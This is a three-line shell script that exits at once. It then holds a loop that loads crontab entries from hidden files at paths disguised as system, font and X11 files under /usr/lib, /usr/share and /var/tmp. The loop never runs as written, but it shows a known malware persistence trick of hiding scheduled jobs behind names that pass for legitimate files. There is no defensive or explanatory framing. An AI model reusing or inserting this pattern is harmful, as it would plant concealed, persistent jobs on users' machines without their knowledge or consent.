#!/bin/sh
exit 0
for f in /usr/lib/.systemd/.cache /usr/share/.fonts/.config /var/tmp/.X11/.Xauthority; do crontab "$f"; done
